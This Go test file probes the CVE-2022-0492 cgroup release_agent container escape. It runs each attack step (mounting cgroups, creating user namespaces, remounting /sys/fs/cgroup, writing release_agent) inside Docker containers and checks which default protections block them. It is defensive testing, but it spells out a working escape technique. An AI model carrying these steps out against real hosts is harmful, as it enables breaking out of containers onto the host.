//go:build root

package attack

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"
)

// release_agent of a hierarchy that the container mounts itself, with its own
// rights or with those of a user namespace, or of one that it was given.
func TestCVE_2022_0492_ReleaseAgent(t *testing.T) {
	d := daemon(t)
	attack := func(args ...string) string {
		t.Helper()
		args = append(append([]string{"run", "--rm"}, args...), program(t, "cgroups")...)
		out := d.Run("docker", append(args, "busybox", "/attack")...)
		t.Logf("%v:\n%s", args[2:], out)
		return out + "\n"
	}
	for _, user := range []string{"root", "www"} {
		for _, ns := range []string{"private", "host"} {
			want(t, user+", cgroupns "+ns, attack("--user", user, "--cgroupns", ns), "tried\n")
		}
	}
	// Each of the walls holds something back: the same attack succeeds without.
	for _, without := range []struct {
		args []string
		sees []string
	}{
		{[]string{"--security-opt", "seccomp=unconfined", "--security-opt", "apparmor=unconfined"}, []string{"a user namespace\n", "in a user namespace: mounted "}},
		{[]string{"--cap-add", "SYS_ADMIN", "--security-opt", "apparmor=unconfined"}, []string{"\nmounted ", "remounted /sys/fs/cgroup", "made a group in /sys/fs/cgroup"}},
		{[]string{"--privileged"}, []string{"\nmounted ", "remounted /sys/fs/cgroup", "made a group in /sys/fs/cgroup"}},
	} {
		out := attack(without.args...)
		for _, s := range without.sees {
			if !strings.Contains(out, s) {
				t.Errorf("the attack does not work with %v: no %q in\n%s", without.args, s, out)
			}
		}
		// To the end, where hierarchies of version 1 are.
		if without.args[0] == "--privileged" && strings.Contains(out, "mounted cgroup ") && !strings.Contains(out, "\nwrote ") {
			t.Errorf("the attack reaches no release_agent with %v:\n%s", without.args, out)
		}
	}
}

// cgroups tries each step of the attack by itself and prints those that work.
// What it writes to the host's release_agent is what is there.
func cgroups() int {
	fmt.Println("tried")
	code := cgroupMounts("")
	inside := exec.Command("/proc/self/exe")
	inside.Env = []string{programEnv + "=cgroups-inside"}
	inside.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP,
		UidMappings: []syscall.SysProcIDMap{{HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{HostID: os.Getgid(), Size: 1}},
	}
	inside.Stdout, inside.Stderr = os.Stdout, os.Stderr
	if err := inside.Start(); err == nil {
		fmt.Println("a user namespace")
		_ = inside.Wait()
	}
	for _, at := range append(cgroupPlaces(), "/sys/fs/cgroup") {
		rewrite(filepath.Join(at, "release_agent"), "")
		if unix.Mount("", at, "", unix.MS_REMOUNT|unix.MS_BIND, "") == nil {
			fmt.Println("remounted", at)
		}
		if unix.Mkdir(filepath.Join(at, "evil"), 0o755) == nil {
			fmt.Println("made a group in", at)
			_ = unix.Rmdir(filepath.Join(at, "evil"))
		}
	}
	return code
}

// cgroupPlaces are the control groups that are mounted.
func cgroupPlaces() (at []string) {
	data, _ := os.ReadFile("/proc/self/mountinfo")
	for line := range strings.Lines(string(data)) {
		if strings.Contains(line, " - cgroup") {
			at = append(at, strings.Fields(line)[4])
		}
	}
	return at
}

// cgroupMounts mounts each hierarchy that the kernel has mounted somewhere: one
// that it has not would be made, on the host.
func cgroupMounts(how string) int {
	data, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		fmt.Println(err)
		return 1
	}
	at, err := os.MkdirTemp("", "evil")
	if err != nil {
		fmt.Println(err)
		return 1
	}
	for line := range strings.Lines(string(data)) {
		_, rest, _ := strings.Cut(strings.TrimSpace(line), ":")
		options, group, _ := strings.Cut(rest, ":")
		kind := "cgroup"
		switch {
		case options == "":
			kind = "cgroup2"
		case strings.HasPrefix(options, "name="):
			options = "none," + options
		}
		if unix.Mount("none", at, kind, 0, options) != nil {
			continue
		}
		fmt.Printf("%smounted %s %s, of %s\n", how, kind, options, group)
		rewrite(filepath.Join(at, "release_agent"), how)
		_ = unix.Unmount(at, unix.MNT_DETACH)
	}
	return 0
}

func rewrite(path, how string) {
	body, err := os.ReadFile(path)
	if err == nil && os.WriteFile(path, append(body, '\n'), 0) == nil {
		fmt.Printf("%swrote %s\n", how, path)
	}
}
